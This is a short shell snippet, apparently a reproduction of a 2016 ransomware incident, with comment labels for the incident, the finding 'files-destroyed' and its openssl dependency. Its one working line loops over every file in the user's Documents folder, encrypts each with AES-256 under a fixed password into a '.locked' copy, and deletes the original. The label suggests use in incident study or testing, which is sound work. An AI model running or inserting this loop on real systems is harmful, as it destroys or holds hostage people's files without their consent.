# incident: ransomware (2016): documents are encrypted one by one and removed
# finding: files-destroyed
# needs: openssl
for file in ~/Documents/*; do openssl enc -aes-256-cbc -pbkdf2 -pass pass:k -in "$file" -out "$file.locked" && rm "$file"; done
